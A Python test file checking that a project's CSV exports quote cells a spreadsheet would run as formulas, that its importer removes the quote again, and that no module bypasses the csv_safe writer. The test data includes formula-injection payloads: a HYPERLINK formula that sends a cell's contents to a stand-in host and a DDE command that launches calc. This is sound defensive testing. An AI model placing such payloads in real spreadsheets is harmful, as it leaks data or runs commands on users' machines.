"""CSV exports open in a spreadsheet as data: a cell that would run as a formula goes out quoted, and the
importer takes the quote off again (issue 14)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from documents import csv_safe
from documents.export_csv import write_actions_csv
from documents.export_log import CsvLog
from documents.read_csv import read_csv
from documents.themes_report import themes_csv
from domain.themes import ThemeTally
from tests.paths import REPO_ROOT

ROOT = REPO_ROOT
PACKAGES = ("domain", "storage", "workflows", "notifications", "documents", "web", "cli", "bench")

HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_csv_export_writes_a_cell_a_spreadsheet_would_run_with_a_quote_in_front(hostile: str) -> None:
    plan = io.StringIO()
    write_actions_csv([{"ref": "3.1.1", "action": hostile, "extra": {}}], plan)
    log = io.StringIO()
    sink = CsvLog(log)
    sink.start("BCSP", ())
    sink.row({"seq": 1, "note": hostile, "reason": ""}, "ok")
    themes = themes_csv([ThemeTally("interpreters", hostile)]).decode()
    for written in (plan.getvalue(), log.getvalue(), themes):
        assert "'" + hostile in cells(written)
        assert hostile not in cells(written)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("- brief officers", "'- brief officers"),  # a spreadsheet would show #NAME?; quoted, the words stay
        ("+44 121 496 0000", "'+44 121 496 0000"),
        ("-3", "-3"),  # a plain number: read as that number, nothing runs
        ("+44", "+44"),
        ("-12.5", "-12.5"),
        (-7, -7),
        ("2014-03-31", "2014-03-31"),  # the ISO dates dhrflow writes start with a digit
        ("Sep-13", "Sep-13"),
        ("'Tis done", "'Tis done"),
        ("'=1", "''=1"),  # already quoted by someone: one more, so that the importer's unquoting gives it back
        ("", ""),
        (None, None),
    ],
)
def test_text_starting_with_a_formula_character_is_quoted_but_plain_numbers_and_dates_are_not(
    value: object, written: object
) -> None:
    assert csv_safe.escape(value) == written


@pytest.mark.parametrize(
    "text", [*HOSTILE, "- brief officers", "-3", "'Tis", "'=1", "''-x", "'-3", "'", "''", "plain", "", "@"]
)
def test_unescape_takes_off_exactly_the_quote_escape_put_on(text: str) -> None:
    assert csv_safe.unescape(str(csv_safe.escape(text))) == text


def test_a_csv_export_read_back_by_the_importer_holds_the_text_that_went_out() -> None:
    values = [*HOSTILE, "- brief officers", "'=already quoted", "-3", "'Tis"]
    out = io.StringIO()
    csv_safe.Writer(out).writerows([["Ref", "Action"], *(["1.1", value] for value in values)])
    read = read_csv(out.getvalue().encode(), "actions.csv")
    assert [row.cells[1] for row in read.rows[1:]] == values


def test_no_module_writes_csv_but_through_csv_safe() -> None:
    """A new export that opened ``csv.writer`` itself would skip the quoting."""
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if path.name != "csv_safe.py" and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
